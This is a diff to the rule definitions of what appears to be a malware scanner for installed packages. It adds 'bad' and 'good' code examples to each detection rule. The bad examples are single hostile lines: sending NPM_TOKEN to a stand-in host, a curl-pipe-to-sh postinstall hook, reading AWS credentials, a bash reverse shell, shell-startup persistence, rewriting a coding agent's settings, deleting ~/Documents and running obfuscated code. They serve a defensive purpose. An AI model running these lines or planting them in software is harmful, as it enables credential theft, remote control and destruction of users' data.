@@ -13,6 +13,10 @@ export const RULES = {
     why: 'The secret was made for this run and stood only where it was planted. The package looked for it, took it and sent it: that is proof, not suspicion.',
     fix: READ_REPORT,
     references: [CWE_506, { id: 'T1552' }],
+    example: {
+      bad: "urlopen('https://collect.example', data=os.environ['NPM_TOKEN'].encode())",
+      good: "token = os.environ['NPM_TOKEN']  # read only by the command that publishes",
+    },
   },
   'download-run': {
     title: 'Downloaded code was run',
@@ -21,6 +25,10 @@ export const RULES = {
     why: 'Whoever holds that address decides what runs on every machine the package is installed on, and may decide differently for each of them.',
     fix: READ_REPORT,
     references: [CWE_494, CWE_506],
+    example: {
+      bad: '"postinstall": "curl -s https://cdn.example/setup.sh | sh"',
+      good: '"files": ["bin/setup.sh"]',
+    },
   },
   'credential-read': {
     title: 'Credentials read',
@@ -29,6 +37,10 @@ export const RULES = {
     why: 'Nothing that a package needs to be installed, imported or asked for help stands there.',
     fix: READ_REPORT,
     references: [CWE_506, { id: 'T1552' }],
+    example: {
+      bad: "open(os.path.expanduser('~/.aws/credentials')).read()",
+      good: 'boto3.Session(profile_name=profile)  # when the caller asks for it',
+    },
   },
   'startup-changed': {
     title: 'Made itself start by itself',
@@ -37,6 +49,10 @@ export const RULES = {
     why: 'What stands there runs without anybody asking for the package: with the next shell, interpreter, login or commit.',
     fix: 'Do not install the package. Where it is installed, remove what it wrote there.',
     references: [CWE_506, { id: 'T1546' }],
+    example: {
+      bad: "open(os.path.expanduser('~/.bashrc'), 'a').write('python3 ~/.x.py &')",
+      good: "print('To complete commands, add this line to your ~/.bashrc: …')",
+    },
   },
   'agent-changed': {
     title: 'Changed the configuration of a coding agent',
@@ -45,6 +61,10 @@ export const RULES = {
     why: 'Coding agents follow what stands there, with the rights of their user.',
     fix: 'Do not install the package. Where it is installed, remove what it wrote there.',
     references: [CWE_506],
+    example: {
+      bad: "fs.writeFileSync(home + '/.claude/settings.json', hooks)",
+      good: "console.log('Add this to your settings: …')",
+    },
   },
   'neighbour-changed': {
     title: 'Changed another package',
@@ -53,6 +73,10 @@ export const RULES = {
     why: 'The code of another package is changed without its publisher, and without a trace in any lock file.',
     fix: 'Do not install the package; install the changed ones again.',
     references: [CWE_506],
+    example: {
+      bad: "fs.appendFileSync('../other-package/index.js', code)",
+      good: "module.exports = wrap(require('other-package'))",
+    },
   },
   'files-destroyed': {
     title: 'Files of the user deleted',
@@ -61,6 +85,10 @@ export const RULES = {
     why: 'The file was there before the package and is none of its own.',
     fix: 'Do not install the package.',
     references: [CWE_506, { id: 'T1485' }],
+    example: {
+      bad: "shutil.rmtree(os.path.expanduser('~/Documents'))",
+      good: 'shutil.rmtree(own_cache_folder)',
+    },
   },
   'host-contacted-on-import': {
     title: 'Contacts a host when it is imported',
@@ -69,6 +97,10 @@ export const RULES = {
     why: 'Whoever merely imports the package, or has it installed, tells somebody that it is there, and from where.',
     fix: 'Find out what is sent, from the requests in the report, and whether it can be switched off.',
     references: [CWE_506],
+    example: {
+      bad: "requests.get('https://stats.example/import')  # in __init__.py",
+      good: 'def check_for_update(): …  # called by nobody but the user',
+    },
   },
   'host-contacted-on-install': {
     title: 'Contacts a host when it is installed',
@@ -77,6 +109,10 @@ export const RULES = {
     why: 'What comes from there is in no lock file: it can be different for every machine and every day.',
     fix: 'Prefer a release that carries what it needs, or install without scripts and fetch the file yourself.',
     references: [CWE_494],
+    example: {
+      bad: '"postinstall": "node download-binary.js"',
+      good: '"optionalDependencies": { "@tool/linux-x64": "1.0.0" }',
+    },
   },
   'host-contacted-on-command': {
     title: 'Contacts a host when its command is asked for help',
@@ -85,6 +121,10 @@ export const RULES = {
     why: 'Most of such contacts look for a newer version. They tell somebody that the command is used.',
     fix: 'Find out what is sent, and whether it can be switched off.',
     references: [CWE_506],
+    example: {
+      bad: 'main(): check_for_update(); parser.parse_args()',
+      good: 'main(): parser.parse_args()',
+    },
   },
   'machine-name-sent': {
     title: 'Name of the machine sent away',
@@ -93,6 +133,10 @@ export const RULES = {
     why: 'Names of machines tell an attacker in whose network a package has arrived.',
     fix: 'Find out from the requests in the report what else is sent, and whether it can be switched off.',
     references: [{ id: 'T1082' }],
+    example: {
+      bad: "socket.gethostbyname(socket.gethostname() + '.collect.example')",
+      good: "logging.info('running on %s', socket.gethostname())",
+    },
   },
   'hostile-command': {
     title: 'Hostile command run',
@@ -101,6 +145,10 @@ export const RULES = {
     why: 'No part of an installation or import needs such a command.',
     fix: READ_REPORT,
     references: [CWE_506, { id: 'T1059' }],
+    example: {
+      bad: "os.system('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')",
+      good: "subprocess.run(['cmake', '--build', build])",
+    },
   },
   'forbidden-call': {
     title: 'Tried to leave the sandbox or to look into other processes',
@@ -109,6 +157,7 @@ export const RULES = {
     why: 'These calls watch or change other processes, mount file systems or change the kernel. Packages that find out whether they are watched use them, too.',
     fix: READ_REPORT,
     references: [CWE_506, { id: 'T1611' }],
+    example: { bad: 'ctypes.CDLL(None).ptrace(0, 0, 0, 0)', good: 'faulthandler.enable()' },
   },
   'program-in-memory': {
     title: 'Ran a program that is in no file',
@@ -117,6 +166,10 @@ export const RULES = {
     why: 'It leaves nothing on the disk that could be examined later.',
     fix: READ_REPORT,
     references: [CWE_506, { id: 'T1620' }],
+    example: {
+      bad: "fd = os.memfd_create('x'); os.write(fd, program); os.execve(fd, argv, env)",
+      good: "subprocess.run([package_folder / 'bin' / 'tool'])",
+    },
   },
   'long-sleep': {
     title: 'Waited for long',
@@ -125,6 +178,10 @@ export const RULES = {
     why: 'Sandboxes watch for a limited time; who waits longer than that may do so on purpose.',
     fix: 'Look in the source for what follows the wait.',
     references: [{ id: 'T1497' }],
+    example: {
+      bad: 'time.sleep(3600)  # in setup.py',
+      good: 'for attempt in range(3): time.sleep(1)',
+    },
   },
   'machine-probed': {
     title: 'Looked for signs of a virtual machine',
@@ -133,6 +190,7 @@ export const RULES = {
     why: 'What stands there tells real machines from virtual ones, and so from those that malware is examined on.',
     fix: 'Look in the source for what depends on it.',
     references: [{ id: 'T1497' }],
+    example: { bad: "open('/sys/class/dmi/id/product_name').read()", good: 'platform.machine()' },
   },
   listening: {
     title: 'Opened a port',
@@ -141,6 +199,10 @@ export const RULES = {
     why: 'Others on the network could reach the machine through it.',
     fix: 'Find out what answers there.',
     references: [CWE_506],
+    example: {
+      bad: "socket.create_server(('0.0.0.0', 4444))  # in __init__.py",
+      good: 'def serve(port): …  # called by the user',
+    },
   },
   'process-started': {
     title: 'Programs started',
@@ -148,7 +210,8 @@ export const RULES = {
     message: '{count} programs were started {moment}, the first one {program}',
     why: 'Building and configuring start programs; importing seldom needs one.',
     fix: 'Read the list of programs.',
-    references: [],
+    references: [{ id: 'T1059' }],
+    example: { bad: "subprocess.run(['uname', '-a'])  # in __init__.py", good: 'platform.uname()' },
   },
   'source-made': {
     title: 'Source made while running',
@@ -156,6 +219,10 @@ export const RULES = {
     message: '{count} pieces of source were made and run {moment}',
     why: 'They are in no file of the package. They were examined like files.',
     fix: 'Read them in the JSON report.',
-    references: [],
+    references: [{ id: 'T1027' }],
+    example: {
+      bad: 'exec(zlib.decompress(base64.b64decode(blob)))',
+      good: 'from ._generated import table',
+    },
   },
 } as const satisfies Rules;
